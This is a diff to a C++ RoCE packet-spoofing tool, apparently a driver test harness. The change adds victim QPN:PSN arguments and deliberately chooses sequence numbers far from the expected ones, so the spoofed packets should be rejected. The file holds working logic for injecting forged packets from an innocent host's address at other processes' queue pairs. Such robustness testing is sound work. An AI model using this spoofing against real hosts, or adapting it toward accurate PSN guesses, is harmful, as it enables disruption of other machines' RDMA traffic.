@@ -1,12 +1,12 @@
 // SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
 /*
  * ornic_attack_remote NETDEV MAC FROM TO SPOOFED DEVICE GID-INDEX ROUNDS SHARE SEED
- * [QPN]...
+ * [QPN[:PSN]]...
  * sends packets from NETDEV to the MAC: from the address FROM, which is that of the
  * peer of some QPs of DEVICE that this process makes, and from the address SPOOFED
- * of an innocent host. QPNs are those of the victims. The QPs of this process may
- * fail, its guards may not be written to. One of SHARE packets is sent. Without
- * rounds, strangers begin long messages, which no worker may see.
+ * of an innocent host. QPNs are those of the victims, PSNs what they expect, about. The
+ * QPs of this process may fail, its guards may not be written to. One of SHARE packets is
+ * sent. Without rounds, strangers begin long messages, which no worker may see.
  */
 #include <cstdio>
 #include <cstdlib>
@@ -27,16 +27,27 @@ constexpr uint8_t ud_send = 0x64, rc_write_only = 0x0a;
 struct target {
 	uint32_t qpn;
 	bait *lured;
+	uint32_t psn = 0; /* what a victim expects, about */
 };
+
+/* All PSNs; those from there on that a victim comes to meanwhile, or keeps. */
+constexpr uint32_t psns = 1 << 24, near_psns = 1 << 22;
 
 class attacker {
 public:
 	attacker(char **argv);
 
 	void run(const char *rounds, const char *share, const char *seed);
-	void add_victim(uint32_t qpn)
+	/* QPN[:PSN] */
+	void add_victim(const char *text)
 	{
-		targets_.push_back({ qpn, nullptr });
+		char *end;
+		const auto qpn =
+			static_cast<uint32_t>(std::strtoul(text, &end, 10));
+		const auto psn = static_cast<uint32_t>(
+			*end == ':' ? std::strtoul(end + 1, nullptr, 10) : 0);
+
+		targets_.push_back({ qpn, nullptr, psn });
 	}
 
 private:
@@ -147,7 +158,10 @@ void attacker::aim(roce &p, const target &t)
 			      (p.opcode & 0x1f) <= 0x12;
 
 	p.qpn = t.qpn;
-	p.psn = static_cast<uint32_t>(random_() & 0xffffff);
+	/* Far from what a victim expects: see spoofed(). */
+	p.psn = static_cast<uint32_t>(t.psn + near_psns +
+				      below(psns - near_psns)) %
+		psns;
 	/* Never that of the victims, which would be let in rightly. */
 	p.qkey = t.lured ? bait_qkey : 0x22222222;
 	if (!t.lured)
@@ -417,8 +431,9 @@ void attacker::mutations()
 }
 
 /*
- * From the address of an innocent host. What has the QPN, too, lacks the PSN: the
- * victims are at some of 2^24, of which a few in a row are theirs.
+ * From the address of an innocent host. What has the QPN, too, lacks the PSN: a guess
+ * would be one of those that are executed, or kept and executed in their turn, once in
+ * 2^15 times. That is an end that RoCE allows, and not tried.
  */
 void attacker::spoofed()
 {
@@ -638,16 +653,15 @@ int main(int argc, char **argv)
 	if (argc < 11) {
 		std::fprintf(
 			stderr,
-			"usage: ornic_attack_remote NETDEV MAC FROM TO"
-			" SPOOFED DEVICE GID ROUNDS SHARE SEED [QPN]...\n");
+			"usage: ornic_attack_remote NETDEV MAC FROM TO SPOOFED"
+			" DEVICE GID ROUNDS SHARE SEED [QPN[:PSN]]...\n");
 		return 2;
 	}
 	try {
 		attacker evil(argv);
 
 		for (int i = 11; i < argc; i++)
-			evil.add_victim(static_cast<uint32_t>(
-				std::strtoul(argv[i], nullptr, 0)));
+			evil.add_victim(argv[i]);
 		evil.run(argv[8], argv[9], argv[10]);
 	} catch (const failure &what) {
 		std::printf("%s\n", what.what());
